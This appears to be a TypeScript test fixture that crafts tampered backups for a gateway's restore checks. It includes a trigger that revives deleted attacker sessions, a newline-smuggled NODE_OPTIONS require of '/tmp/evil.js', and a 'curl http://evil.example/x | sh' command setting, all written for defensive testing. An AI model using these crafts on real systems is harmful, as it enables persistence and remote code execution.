/**
 * Backups crafted as an attacker would (issue 24): a backup the gateway wrote, changed, and its
 * digest computed again so that it passes as whole. The crafts, with the words a restore refuses
 * each with, are shared by test/security/crafted-backups.test.ts and the soak's row
 * (scripts/reliability/crafted-restores.ts).
 */
import { copyFileSync } from 'node:fs';
import Database from 'better-sqlite3';
import { contentDigest } from '../../src/core/maintenance/store-backup.ts';

/** A copy of the backup `source` at `target`, changed by `craft`, its digest written again. */
export function craftBackup(source: string, target: string, craft: (db: Database.Database) => void): string {
  copyFileSync(source, target);
  const db = new Database(target);
  craft(db);
  db.prepare("UPDATE opencube_backup SET value = ? WHERE key = 'digest'").run(JSON.stringify(contentDigest(db)));
  db.close();
  return target;
}

/** A trigger that puts back every console session deleted: a password change would not end the attacker's. */
export const KEEP_SESSION = `CREATE TRIGGER keep_session AFTER DELETE ON console_sessions
  BEGIN INSERT INTO console_sessions SELECT old.id, old.hash, old.created_at, old.last_seen_at,
  '2999-01-01T00:00:00.000Z', old.address, old.user_agent; END;`;

/** Schema objects planted in a backup: what, the SQL, the words of the refusal. */
export const PLANTED: readonly [string, string, RegExp][] = [
  [
    'a trigger that keeps a console session',
    KEEP_SESSION,
    /^the backup holds what no backup of opencube holds \(trigger keep_session\): it was changed after it was taken, and is not restored$/,
  ],
  ['a view', 'CREATE VIEW v AS SELECT * FROM tokens', /\(view v\)/],
  ['a table', 'CREATE TABLE extra (x)', /\(table extra\)/],
  ['an index', 'CREATE INDEX i ON devices (name)', /\(index i\)/],
  [
    'a changed column (a default that runs on every insert)',
    "ALTER TABLE tokens ADD COLUMN note TEXT DEFAULT 'x'",
    /\(table tokens\)/,
  ],
  ['a dropped table', 'DROP TABLE ui_cards', /lacks table ui_cards/],
];

/** Rows the gateway could not read at its start (the backup has one device). */
export const UNREADABLE: readonly [string, string, RegExp][] = [
  [
    'a device whose capabilities are not JSON',
    "UPDATE devices SET capabilities = '{'",
    /^the backup cannot be restored: devices, row 1 \(serial number [0-9a-f]{16}\): capabilities: not JSON$/,
  ],
  [
    'a device whose capabilities are no list',
    `UPDATE devices SET capabilities = '{"a":1}'`,
    /devices, row 1 \(serial number [0-9a-f]{16}\): capabilities: expected an array/,
  ],
  ['a device whose state is a list', "UPDATE devices SET state = '[]'", /devices, row 1 .*: state: expected an object/],
  // A TEXT column turns a number into text; bytes it keeps as they are.
  ['a device whose name is bytes', "UPDATE devices SET name = x'4c616d70'", /devices, row 1 .*: name: expected text/],
  [
    'a setting of the console that is not JSON',
    "INSERT INTO kv (key, value) VALUES ('x', '{')",
    /kv, row x: value: not JSON/,
  ],
  [
    'a card whose settings are not JSON',
    "INSERT INTO ui_cards (id, web_settings, created_at, updated_at) VALUES ('c', '{', 'a', 'b')",
    /ui_cards, row c: web_settings: not JSON/,
  ],
  [
    'a Matter value that is not JSON',
    "INSERT INTO matter_storage (context, key, value) VALUES ('a', 'b', '{')",
    /matter_storage, row a b: value: not JSON/,
  ],
  [
    'a console password that is no scrypt hash',
    "UPDATE console_password SET hash = 'plain'",
    /console_password: not a password hash this release reads/,
  ],
  [
    'a console password of a cost that would allocate a terabyte',
    `UPDATE console_password SET hash = 'scrypt$1073741824$8$1$${'a'.repeat(22)}$${'b'.repeat(43)}'`,
    /console_password: not a password hash this release reads/,
  ],
  ['a token hash that is text', "UPDATE tokens SET hash = 'abc'", /tokens, row \w+: hash: expected blob/],
];

/** Settings a backup may carry: an injected variable, a line break, values out of range, a program. */
export const INJECTED_SETTINGS = {
  NODE_OPTIONS: '--require=/tmp/evil.js',
  OPENCUBE_NAME: 'attic\nNODE_OPTIONS=--require=/tmp/evil.js',
  OPENCUBE_DOMAIN: "it's",
  OPENCUBE_PORT: '99999',
  OPENCUBE_LOG_LEVEL: 'debug',
  OPENCUBE_AUDIO_COMMAND: 'curl http://evil.example/x | sh',
  OPENCUBE_ZIGBEE_MQTT_URL: 'mqtt://z2m:pa55word@10.1.2.3:1883',
  OPENCUBE_DATA_DIR: '/etc',
};
